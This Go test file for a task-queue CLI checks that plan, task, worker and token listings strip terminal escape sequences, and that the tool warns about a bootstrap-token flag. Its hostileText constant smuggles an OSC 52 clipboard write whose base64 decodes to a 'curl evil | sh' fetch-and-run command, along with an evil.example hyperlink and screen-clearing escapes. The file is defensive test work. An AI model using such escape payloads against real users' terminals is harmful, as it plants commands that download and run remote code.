package cli_test

import (
	"context"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/whilly-go/whilly/queue"
	"github.com/whilly-go/whilly/testkit"
)

// hostileText moves the cursor home and clears the screen, retitles the window, writes the
// clipboard (OSC 52), sets a hyperlink, paints red, uses the one-byte C1 CSI and reverses
// the line with a bidi override.
const hostileText = "Fix it\x1b[H\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\" +
	"\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m \u009b2J\u202eesrever\u202c\r\bdone"

// TestPlanShowAndListStripTerminalEscapes: a plan name and task description holding
// escape sequences (stored by whatever path) reach the terminal as plain text.
func TestPlanShowAndListStripTerminalEscapes(t *testing.T) {
	t.Parallel()
	dsn := testkit.DSN(t)
	if code, _, stderr := run(t, dsn, "", "plan", "import", writeFile(t, "plan.json", validPlan)); code != 0 {
		t.Fatalf("import: %s", stderr)
	}
	pool, err := pgxpool.New(context.Background(), dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	if _, err := pool.Exec(context.Background(), `UPDATE tasks SET description = $1 WHERE plan_id = 'cli'`, hostileText); err != nil {
		t.Fatal(err)
	}
	if _, err := pool.Exec(context.Background(), `UPDATE plans SET name = $1 WHERE id = 'cli'`, hostileText); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"plan", "show", "cli", "--no-color"}, {"plan", "list", "--no-color"}} {
		code, out, stderr := run(t, dsn, "", args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr)
		}
		for _, bad := range []string{"\x1b", "\u009b", "\x07", "\r", "\b", "\u202e", "]0;", "]52;", "[2J"} {
			if strings.Contains(out, bad) {
				t.Errorf("%v prints %q:\n%q", args, bad, out)
			}
		}
		if !strings.Contains(out, "Fix it") || !strings.Contains(out, "red") {
			t.Errorf("%v lost the visible text:\n%q", args, out)
		}
	}
}

func TestBootstrapTokenFlagWarns(t *testing.T) {
	t.Parallel()
	_, _, stderr := run(t, "", "", "worker", "register", "--connect", "http://control.invalid", "--bootstrap-token", "whilly_b_x")
	if !strings.Contains(stderr, "warning: --bootstrap-token is visible to every user") || !strings.Contains(stderr, "WHILLY_BOOTSTRAP_TOKEN") {
		t.Errorf("stderr %q, want a warning about the flag", stderr)
	}
}

// TestWorkerAndTokenListsStripTerminalEscapes: a worker's hostname and a token's owner
// (stored by whatever path: the API refuses control characters in a hostname but not a
// bidi override) reach the terminal as plain text.
func TestWorkerAndTokenListsStripTerminalEscapes(t *testing.T) {
	t.Parallel()
	dsn := testkit.DSN(t)
	if code, _, stderr := run(t, dsn, "", "admin", "token", "mint", "--owner", "ops@example.com"); code != 0 {
		t.Fatalf("mint: %s", stderr)
	}
	pool, err := pgxpool.New(context.Background(), dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	st := queue.NewStore(pool, nil, queue.Config{})
	if _, _, err := st.RegisterWorker(context.Background(), hostileText, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := pool.Exec(context.Background(), `UPDATE api_tokens SET owner = $1`, hostileText); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"worker", "list"}, {"admin", "token", "list"}} {
		code, out, stderr := run(t, dsn, "", args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr)
		}
		for _, bad := range []string{"\x1b", "\u009b", "\x07", "\r", "\b", "\u202e", "]0;", "]52;", "[2J"} {
			if strings.Contains(out, bad) {
				t.Errorf("%v prints %q:\n%q", args, bad, out)
			}
		}
		if !strings.Contains(out, "Fix it") {
			t.Errorf("%v lost the visible text:\n%q", args, out)
		}
	}
}
